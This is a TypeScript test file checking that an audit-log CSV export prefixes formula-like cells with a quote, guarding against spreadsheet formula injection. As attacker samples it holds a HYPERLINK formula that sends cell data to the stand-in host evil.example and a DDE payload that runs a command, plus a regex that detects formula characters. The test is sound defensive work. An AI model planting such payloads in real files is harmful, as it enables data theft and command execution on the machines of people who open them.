// Review M12: the CSV export neutralises spreadsheet formulas. A failed sign-in is audited without
// authentication, with the caller's User-Agent and X-Forwarded-For: an attacker writes the cells.
import { describe, expect, it } from "vitest";
import { exportAuditLog } from "@/lib/audit/service";
import { systemActor } from "@/prisma/factories";
import { appendEntry, makeTeam, uid } from "./helpers";

async function exportCsv(action: string, as: Parameters<typeof exportAuditLog>[0]): Promise<string> {
  let out = "";
  for await (const chunk of exportAuditLog(as, { action }, "csv")) out += chunk;
  return out;
}

describe("audit CSV export", () => {
  it("prefixes cells that start like a formula with a quote (OWASP), and leaves others alone", async () => {
    const team = await makeTeam();
    const action = `it.csv.${uid()}`;
    const attacker = { ...systemActor('=HYPERLINK("https://evil.example/?"&A2,"Details")'), ip: "=cmd|'/c calc'!A0", userAgent: "\tcurl" };
    await appendEntry(attacker, { action, subjectType: "test", subjectId: "@SUM(1+1)", reason: "+1+1" });
    await appendEntry(systemActor("plain"), { action, subjectType: "test", subjectId: "-2", reason: "＝1+1 fullwidth" });
    await appendEntry(systemActor("plain"), { action, subjectType: "test", subjectId: "safe-id", reason: "an ordinary reason" });
    const csv = await exportCsv(action, team.as.auditor);
    const lines = csv.trim().split("\r\n");
    expect(lines).toHaveLength(4);
    const body = lines.slice(1).join("\n");
    expect(body).toContain(`"'=HYPERLINK(""https://evil.example/?""&A2,""Details"")"`);
    expect(body).toContain(",'@SUM(1+1),");
    expect(body).toContain(",'+1+1,");
    expect(body).toContain(",'-2,");
    expect(body).toContain(",'＝1+1 fullwidth,");
    expect(body).toContain(",'=cmd|'/c calc'!A0,");
    expect(body).toContain(",'\tcurl,");
    expect(body).toContain(",safe-id,");
    expect(body).toContain(",an ordinary reason,");
    // No cell of any line starts with a formula character.
    for (const line of lines.slice(1)) {
      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    }
  });
});
